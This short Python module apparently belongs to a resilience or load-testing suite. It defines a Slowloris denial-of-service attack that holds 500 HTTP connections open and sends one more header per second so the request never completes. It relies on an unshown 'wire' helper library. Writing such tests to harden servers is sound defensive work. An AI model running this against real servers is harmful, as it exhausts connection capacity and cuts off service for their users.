"""Slowloris: requests whose headers never end, one more a second."""
import wire

NAME = "slow heads"
SIZE = 500


def attack(host, port, stop, log):
    log(f"{SIZE} requests whose head comes a header a second")
    first = b"GET /ping HTTP/1.1\r\nHost: localhost\r\n"
    return wire.Crowd(host, port, SIZE, first, lambda n: b"X-%d: y\r\n" % n).run(stop)
